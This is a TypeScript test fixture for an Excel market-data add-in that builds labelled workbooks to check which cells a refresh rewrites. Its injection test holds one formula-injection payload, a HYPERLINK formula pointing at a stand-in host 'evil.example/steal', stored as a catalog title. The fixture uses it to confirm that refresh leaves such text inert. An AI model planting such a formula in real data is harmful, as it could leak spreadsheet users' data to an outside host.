/**
 * Recorded workbooks for the refresh tests. Each cell is declared with what it
 * is (an MD call or not) independently of the code under test, so the tests
 * compare the feature's choices against the fixture's own labels.
 */
import type { RecordedCell, RecordedResult, WorkbookRecording } from "./workbook-stand-in";

export const latest = (symbol: string, metric = "PRICE") => `=MD.LATEST("${symbol}","${metric}")`;

export interface LabelledCell {
  sheet: string;
  address: string;
  cell: RecordedCell;
  /** True when the formula calls an MD function (what refresh must rewrite). */
  md: boolean;
  /** What an MD formula evaluates to on refresh. */
  fresh?: RecordedResult;
}

export interface LabelledWorkbook {
  recording: WorkbookRecording;
  cells: LabelledCell[];
  md: LabelledCell[];
}

export function build(
  sheets: { name: string; protected?: boolean }[],
  cells: LabelledCell[],
  extra: Partial<WorkbookRecording> = {},
): LabelledWorkbook {
  const results: Record<string, RecordedResult> = {};
  for (const c of cells) if (c.md && c.fresh && c.cell.formula) results[c.cell.formula] = c.fresh;
  const recording: WorkbookRecording = {
    sheets: sheets.map((s) => ({
      ...s,
      cells: Object.fromEntries(cells.filter((c) => c.sheet === s.name).map((c) => [c.address, c.cell])),
    })),
    activeSheet: sheets[0].name,
    selection: { sheet: sheets[0].name, areas: ["A1"] },
    results,
    ...extra,
  };
  return { recording, cells, md: cells.filter((c) => c.md) };
}

const SYMBOLS = ["eth", "btc", "sol", "nope"];

/**
 * Comps: a 4 × 2 block of MD.LATEST beside plain formulas, text and look-alikes.
 * Series: a spilled MD.SERIES that grows by a row on refresh.
 * Notes: no formulas. Locked: a protected sheet with one MD cell. Empty: nothing.
 */
export function compsWorkbook(options: { afterMs?: number } = {}): LabelledWorkbook {
  const afterMs = options.afterMs ?? 15;
  const cells: LabelledCell[] = [{ sheet: "Comps", address: "A1", cell: { value: "Symbol" }, md: false }];
  SYMBOLS.forEach((symbol, i) => {
    const row = i + 2;
    const missing = symbol === "nope";
    cells.push(
      { sheet: "Comps", address: `A${row}`, cell: { value: symbol }, md: false },
      {
        sheet: "Comps",
        address: `B${row}`,
        cell: { formula: latest(symbol), value: 100 + i },
        md: true,
        fresh: { value: missing ? "#N/A" : 200 + i, afterMs },
      },
      {
        sheet: "Comps",
        address: `C${row}`,
        cell: { formula: latest(symbol, "MARKET_CAP"), value: 1000 + i },
        md: true,
        fresh: { value: missing ? "#N/A" : 2000 + i, afterMs },
      },
      { sheet: "Comps", address: `D${row}`, cell: { formula: `=B${row}*2`, value: (100 + i) * 2 }, md: false },
    );
  });
  cells.push(
    { sheet: "Comps", address: "E2", cell: { formula: '="MD.LATEST is text"', value: "MD.LATEST is text" }, md: false },
    { sheet: "Comps", address: "E3", cell: { formula: "=XMD.FOO(1)", value: 1 }, md: false },
    {
      sheet: "Comps",
      address: "E4",
      cell: { formula: `${latest("eth")}*2`, value: 200 },
      md: true,
      fresh: { value: 400, afterMs },
    },
    {
      sheet: "Comps",
      address: "E5",
      cell: { formula: '=IFERROR(MD.AGG("eth","FEES","30D"),0)', value: 7 },
      md: true,
      fresh: { value: 9, afterMs },
    },
    {
      sheet: "Series",
      address: "A1",
      cell: {
        formula: '=MD.SERIES("eth","PRICE","-2D")',
        spill: [
          ["date", "eth PRICE"],
          [45000, 1800],
          [45001, 1810],
        ],
      },
      md: true,
      fresh: {
        spill: [
          ["date", "eth PRICE"],
          [45000, 1800],
          [45001, 1810],
          [45002, 1825],
        ],
        afterMs,
      },
    },
    { sheet: "Series", address: "D1", cell: { formula: "=SUM(B2:B3)", value: 3610 }, md: false },
    { sheet: "Notes", address: "A1", cell: { value: 'MD.LATEST("eth","PRICE") is how we get prices' }, md: false },
    { sheet: "Notes", address: "A2", cell: { value: 3 }, md: false },
    {
      sheet: "Locked",
      address: "B2",
      cell: { formula: latest("eth"), value: 100 },
      md: true,
      fresh: { value: 200, afterMs },
    },
  );
  return build(
    [{ name: "Comps" }, { name: "Series" }, { name: "Notes" }, { name: "Locked", protected: true }, { name: "Empty" }],
    cells,
  );
}

export const INJECTED_TITLE = '=HYPERLINK("http://evil.example/steal",MD.VERSION())';
export const FROZEN_TEXT = '=MD.LATEST("eth","PRICE")';
export const QUOTED_NOTE = '=MD.SERIES("eth","PRICE") is how we fetch prices';

/**
 * Text that looks like MD formulas, in the three places a refresh once turned
 * it into live formulas: a catalog title inside a live MD.ASSETS spill, text
 * Freeze wrote with an apostrophe, and a user's own note typed with one. Each
 * is a constant; `Range.formulas` returns it as its bare text. Beside them,
 * real MD formulas that must be refreshed.
 */
export function injectionWorkbook(): LabelledWorkbook {
  const catalog = [
    ["Symbol", "Name", "Title"],
    ["eth", "Ether", "Ethereum"],
    ["evil", "Evil coin", INJECTED_TITLE],
  ];
  const refreshedCatalog = [...catalog, ["sol", "Solana", "Solana"]];
  return build(
    [{ name: "Catalog" }, { name: "Notes" }],
    [
      {
        sheet: "Catalog",
        address: "A1",
        cell: { formula: '=MD.ASSETS("")', spill: catalog },
        md: true,
        fresh: { spill: refreshedCatalog, afterMs: 10 },
      },
      {
        sheet: "Notes",
        address: "B2",
        cell: { formula: latest("btc"), value: 60000 },
        md: true,
        fresh: { value: 61000, afterMs: 10 },
      },
      // Freeze wrote "'" + text; Excel stores the text without the apostrophe.
      { sheet: "Notes", address: "B3", cell: { value: FROZEN_TEXT }, md: false },
      { sheet: "Notes", address: "B4", cell: { value: QUOTED_NOTE }, md: false },
    ],
  );
}

/** How a runtime the document loaded starts: pane hidden, no ribbon command (refresh-controller's RuntimeStart). */
export const OPENED_WITH_DOCUMENT = { paneShown: false, byCommand: () => false } as const;

/** The sheet an analyst freezes (test/refresh/freeze-cards.test.ts, test/browser/refresh.test.ts): its formulas and formats. */
export const CARDS_SHEET = {
  PRICE: "$#,##0.00",
  DATE: "yyyy-mm-dd",
  ETH: '=MD.ASSET("eth")',
  LINK: '=MD.ASSET("link")',
  SERIES: '=MD.SERIES("eth","PRICE","-1D")',
};

/** An MD.ASSET card as the add-in returns it (src/office/cells/entity-value.ts): an Excel entity. */
export const assetCard = (name: string, symbol: string, price: number) => ({
  type: "Entity",
  text: name,
  properties: {
    Name: { type: "String", basicValue: name },
    Symbol: { type: "String", basicValue: symbol },
    Price: {
      type: "Double",
      basicValue: price,
      numberFormat: CARDS_SHEET.PRICE,
      propertyMetadata: { sublabel: "2025-03-02" },
    },
  },
  layouts: {
    card: { title: { property: "Name" }, sections: [{ layout: "List", title: "Market", properties: ["Price"] }] },
  },
  provider: { description: "Market Data for Excel" },
});

/**
 * Desk: MD.ASSET cards in A1:A2 with `=A1.Price` / `=A2.Price` beside them, a
 * formatted MD.SERIES table in D1:E2 (a date and a price carried in the
 * values), and G1, a price the user formatted as 0.0 themselves.
 */
export function cardsWorkbook(extra: Partial<WorkbookRecording> = {}): LabelledWorkbook {
  const { PRICE, DATE, ETH, LINK, SERIES } = CARDS_SHEET;
  const priced = (basicValue: number, numberFormat: string) => ({ type: "Double", basicValue, numberFormat });
  const eth = assetCard("Ethereum", "eth", 2553.26);
  const link = assetCard("Chainlink", "link", 14.2);
  const series = [
    ["Date", "eth PRICE"],
    [priced(45718, DATE), priced(2553.26, PRICE)],
  ];
  const btc = priced(95000.5, PRICE);
  const cells: LabelledCell[] = [
    { sheet: "Desk", address: "A1", cell: { formula: ETH, value: eth }, md: true, fresh: { value: eth } },
    { sheet: "Desk", address: "A2", cell: { formula: LINK, value: link }, md: true, fresh: { value: link } },
    // Excel formulas that read the cards' properties.
    { sheet: "Desk", address: "B1", cell: { formula: "=A1.Price", value: priced(2553.26, PRICE) }, md: false },
    { sheet: "Desk", address: "B2", cell: { formula: "=A2.Price", value: priced(14.2, PRICE) }, md: false },
    { sheet: "Desk", address: "D1", cell: { formula: SERIES, spill: series }, md: true, fresh: { spill: series } },
    { sheet: "Desk", address: "G1", cell: { formula: latest("btc"), value: btc }, md: true, fresh: { value: btc } },
  ];
  const fixture = build([{ name: "Desk" }], cells, extra);
  fixture.recording.sheets[0].numberFormats = { G1: "0.0" };
  return fixture;
}
